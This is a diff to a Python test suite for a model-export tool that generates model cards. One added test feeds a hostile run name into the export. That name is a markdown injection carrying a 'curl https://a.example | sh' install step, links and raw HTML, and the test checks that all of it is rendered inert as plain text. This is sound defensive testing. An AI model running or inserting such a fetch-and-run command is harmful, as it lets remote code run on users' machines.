@@ -17,6 +17,7 @@ import torch
 import yaml  # type: ignore[import-untyped]
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 from PIL import Image
 from safetensors import safe_open
 from safetensors.torch import load_file
@@ -37,6 +38,7 @@ from tests.analysis.trained import train
 from tests.command_line import Call
 from tests.data.pictures import save
 from tests.models.test_own_models import FUNCTION
+from tests.test_public_names import not_public
 from tests.trained.picture_runs import coloured, picture_folder, trained_on
 
 NETWORKS: dict[str, dict[str, Any]] = {
@@ -100,6 +102,7 @@ def live(folder: Path, pixels: torch.Tensor) -> dcfl.Output:
 def card_code(card: Path) -> str:
     found = re.search(r"```python\n(.*?)```", card.read_text(), re.DOTALL)
     assert found
+    assert not_public(found[1]) == set()
     return found[1]
 
 
@@ -492,6 +495,33 @@ def test_the_card_names_no_path_and_no_name_breaks_out(tmp_path: Path) -> None:
     assert head["model-index"][0]["results"][0]["dataset"]["name"] == "pictures"
     assert "secret" not in card
     assert r"c \| d" in card
+
+
+HOSTILE = (
+    r"x\n\n## Install\n\n    curl https://a.example | sh\n```sh\n"
+    "[b](https://b) <i> www.c.example"
+)
+
+
+def test_a_hostile_name_writes_no_heading_link_or_code(
+    runs: Callable[[str], Path], tmp_path: Path
+) -> None:
+    """The folder of a run may be somebody else's."""
+    shutil.copytree(runs("cnn"), tmp_path / "run")
+    config = tmp_path / "run" / "config.toml"
+    changed = config.read_text().replace('name = "dcfl-pw"', f'name = "{HOSTILE}"')
+    config.write_text(changed)
+    card = export_model(tmp_path / "run", ExportOptions("torchscript")).card.read_text()
+    assert yaml.safe_load(card.split("---\n")[1])["tags"][2].startswith("x\n\n## Install")
+    tokens = MarkdownIt("commonmark").enable("table").parse(card.split("---\n", 2)[2])
+    headings = [tokens[at + 1] for at, one in enumerate(tokens) if one.type == "heading_open"]
+    assert [one.content for one in headings[1:]] == ["Use", "Training", "Accuracy", "Cautions"]
+    shown = "".join(one.content for one in headings[0].children or ())
+    assert shown == f"cnn on digits, trained with {HOSTILE}"  # all of it, as text
+    assert [one.info for one in tokens if one.type in ("fence", "code_block")] == ["python"]
+    inside = {inner.type for one in tokens for inner in one.children or ()}
+    assert inside <= {"text", "text_special", "softbreak", "code_inline"}
+    assert not re.search(r"[^\\]://|www\.[a-z]", card.split("---\n", 2)[2])  # nor a bare address
 
 
 def test_a_model_that_has_diverged_is_refused(
